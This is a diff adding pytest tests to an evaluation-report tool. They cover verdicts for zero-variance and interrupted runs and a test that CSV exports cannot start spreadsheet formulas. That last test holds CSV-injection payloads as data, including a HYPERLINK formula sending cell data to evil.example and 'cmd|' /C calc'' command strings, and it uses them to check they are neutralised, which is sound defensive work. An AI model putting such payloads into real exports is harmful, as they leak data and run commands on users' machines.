@@ -87,7 +87,7 @@ def test_partial_run_gives_a_provisional_verdict_and_insufficient_data(tmp_path:
     assert report.comparison("ft", "baseline").n == 1
     assert "1 paired persona" in next(c.detail for c in verdict.criteria if c.name == "significance")
     md = render_markdown(report)
-    assert "**Incomplete run:**" in md and "INSUFFICIENT DATA" in md and "still running" in md
+    assert "**Incomplete run** (running: " in md and "INSUFFICIENT DATA" in md and "still running" in md
 
 
 def test_criterion_breakdown(results_dir: Path) -> None:
@@ -169,3 +169,115 @@ def test_the_app_start_up_does_not_pay_for_scipy() -> None:
     probe = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
     assert probe.returncode == 0, probe.stderr
     assert probe.stdout.strip() == "False"
+
+
+def _write_run(directory: Path, rows: list[tuple[str, str, int, float]], *, k: int, status: str,
+               n_personas: int = 3) -> Path:
+    """A results directory from explicit (persona, model, conv_index, score) rows."""
+    from core.eval.results import append_conversation, write_personas_json, write_run_json
+    from tests.eval_view.fixtures import conversation, personas, run_dict
+
+    people = {p["id"]: p for p in personas(n_personas)}
+    write_run_json(directory, run_dict(["baseline", "ft"], k=k, status=status))
+    write_personas_json(directory, list(people.values()))
+    for pid, model, index, score in rows:
+        append_conversation(directory, conversation(people[pid], model, index, score))
+    return directory
+
+
+def test_no_difference_with_zero_variance_fails_instead_of_insufficient_data(tmp_path: Path) -> None:
+    # Every persona scores exactly the same under both models: Δ = 0.000, SD(Δ) = 0, the t-test is
+    # undefined — but a finished run that shows no improvement at all is a FAIL, not "insufficient data".
+    rows = [(f"p{9000 + i}", model, c, 0.5 + 0.1 * i) for i in range(3) for model in ("baseline", "ft")
+            for c in range(2)]
+    report = build_report(load_results(_write_run(tmp_path / "same", rows, k=2, status="finished")))
+    (verdict,) = report.verdicts
+    crit = {c.name: c for c in verdict.criteria}
+    assert report.complete and not verdict.provisional
+    assert verdict.status == "FAIL"
+    assert crit["improvement"].ok is False and "Δ = +0.000" in crit["improvement"].detail
+    assert crit["significance"].ok is False and "no difference" in crit["significance"].detail
+    assert "**FAIL**" in render_markdown(report)
+
+
+def test_a_constant_shortfall_fails_and_a_constant_gain_stays_undecided(tmp_path: Path) -> None:
+    # Every persona 0.05 better: below the 0.10 threshold, so FAIL whatever the (undefined) test says.
+    small = [(f"p{9000 + i}", m, 0, 0.5 + 0.1 * i + (0.05 if m == "ft" else 0)) for i in range(3)
+             for m in ("baseline", "ft")]
+    assert build_report(load_results(_write_run(tmp_path / "small", small, k=1,
+                                                status="finished"))).verdicts[0].status == "FAIL"
+    # Every persona 0.2 better: large enough, but with zero variance the t-test cannot say how sure.
+    big = [(f"p{9000 + i}", m, 0, 0.5 + 0.1 * i + (0.2 if m == "ft" else 0)) for i in range(3)
+           for m in ("baseline", "ft")]
+    assert build_report(load_results(_write_run(tmp_path / "big", big, k=1,
+                                                status="finished"))).verdicts[0].status == "INSUFFICIENT DATA"
+    # One paired persona is still too little to fail on.
+    one = [("p9000", "baseline", 0, 0.6), ("p9000", "ft", 0, 0.6)]
+    assert build_report(load_results(_write_run(tmp_path / "one", one, k=1, status="finished",
+                                                n_personas=1))).verdicts[0].status == "INSUFFICIENT DATA"
+
+
+def test_interrupted_run_shows_what_was_done_not_the_plan(tmp_path: Path) -> None:
+    from core.eval.report import overview_rows
+
+    # Planned 2 personas × 2 conversations per model; interrupted after the baseline finished all four,
+    # ft one conversation of each persona, and (third directory) ft one persona twice, the other once.
+    rows = [(p, "baseline", c, 0.6) for p in ("p9000", "p9001") for c in range(2)]
+    report = build_report(load_results(_write_run(
+        tmp_path / "cut", [*rows, ("p9000", "ft", 0, 0.7), ("p9001", "ft", 0, 0.8)], k=2, status="interrupted",
+        n_personas=2)))
+    n = {r["model"]: r["n"] for r in overview_rows(report)}
+    assert n == {"baseline": "2×2", "ft": "2×1 of 2×2"}
+    assert not report.complete and report.verdicts[0].provisional
+    md = render_markdown(report)
+    assert "**Incomplete run** (interrupted: 6 of 8 conversations done)" in md
+    assert "| ft | candidate | 2×1 of 2×2 |" in md
+    assert "each persona's finished (up to 2) conversations are averaged" in md
+    uneven = build_report(load_results(_write_run(
+        tmp_path / "uneven", [*rows, ("p9000", "ft", 0, 0.7), ("p9000", "ft", 1, 0.7), ("p9001", "ft", 0, 0.8)],
+        k=2, status="interrupted", n_personas=2)))
+    assert {r["model"]: r["n"] for r in overview_rows(uneven)}["ft"] == "2×1–2 of 2×2"
+    data = json.loads(export_json(uneven))
+    ft = next(m for m in data["models"] if m["name"] == "ft")
+    assert (ft["per_persona_min"], ft["per_persona_max"], data["planned_personas"]) == (1, 2, 2)
+
+
+def test_csv_cells_cannot_start_a_formula(tmp_path: Path) -> None:
+    from core.eval.report import csv_safe
+    from core.eval.results import append_conversation, write_personas_json, write_run_json
+    from tests.eval_view.fixtures import conversation, personas, run_dict
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
+               "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+    people = personas(2)
+    people[0]["name"] = hostile[0]
+    people[1]["category"] = hostile[3]
+    directory = tmp_path / "evil"
+    write_run_json(directory, run_dict(["baseline", "ft"], k=1))
+    write_personas_json(directory, people)
+    for i, person in enumerate(people):
+        for model in ("baseline", "ft"):
+            record = conversation(person, model, 0, 0.5 + 0.1 * i + (0.1 if model == "ft" else 0))
+            record["assessment"]["summary"] = hostile[(i * 2 + (model == "ft")) % len(hostile)]
+            record["assessment"]["criteria"][0]["id"] = "=cmd"
+            append_conversation(directory, record)
+    results = load_results(directory)
+    report = build_report(results)
+    cells: list[str] = []
+    for table in ("overview", "pairwise", "categories", "criteria", "personas", "conversations"):
+        for row in csv.reader(io.StringIO(export_csv(report, table, results))):
+            cells += row
+    texts = [c for c in cells if c]
+    assert not [c for c in texts if c[0] in "=+@\t\r" or (c[0] == "-" and not _is_number(c))]
+    assert "'" + hostile[0] in cells and "'" + hostile[3] in cells and "'=cmd" in cells  # kept, but inert
+    assert "'-2+3" in cells
+    assert any(c.startswith("-0.") or c.startswith("-1") for c in cells) or csv_safe(-0.5) == -0.5  # numbers stay
+    assert csv_safe(-0.25) == -0.25 and csv_safe("-0.25") == "'-0.25" and csv_safe(None) == ""
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
